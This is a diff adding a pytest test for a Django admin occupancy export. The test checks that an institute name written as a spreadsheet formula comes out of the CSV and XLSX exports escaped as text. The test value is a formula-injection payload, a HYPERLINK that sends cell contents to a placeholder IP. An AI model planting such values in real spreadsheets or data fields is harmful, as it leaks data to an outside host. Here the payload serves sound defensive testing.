@@ -8,10 +8,12 @@ from typing import Any
 import pytest
 from django.db.backends.postgresql.psycopg_any import DateRange
 from django.urls import reverse
+from openpyxl import load_workbook
 from tablib import Dataset
 
 from innocenter.privacy.models import AccessEvent
 from innocenter.taxonomy.models import Holiday
+from institutes.models import Institute
 from tests import make
 from workspace import occupancy
 from workspace.models import Claim, Closure, Lease
@@ -104,6 +106,22 @@ def test_the_file_holds_what_the_page_shows_and_is_taken_for_a_reason(december: 
             assert str(value) in text
     event = AccessEvent.objects.get(actor=clerk, action="export")
     assert event.reason == "운영위원회 보고"
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_name_that_begins_as_a_formula_stays_a_name(december: Lease, kind: str) -> None:
+    wicked = '=HYPERLINK("http://192.0.2.1/"&B2)'
+    Institute.objects.filter(name="한국전자통신연구원").update(name=wicked)
+    query = {"first": FIRST, "last": LAST, "kind": kind, "reason": "보고"}
+    answer = make.signed_in(make.clerk()).get(reverse("admin:workspace_occupancy_export"), query)
+    if kind == "csv":
+        cells = [value for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for value in row]
+        assert [value for value in cells if value.startswith(("=", "+", "-", "@"))] == []
+    else:
+        cells = [cell.value for row in load_workbook(io.BytesIO(answer.content)).active for cell in row if cell.data_type != "n"]
+        kinds = {cell.data_type for row in load_workbook(io.BytesIO(answer.content)).active for cell in row}
+        assert "f" not in kinds
+    assert f"'{wicked}" in cells
 
 
 def test_without_a_reason_there_is_no_file(december: Lease) -> None:
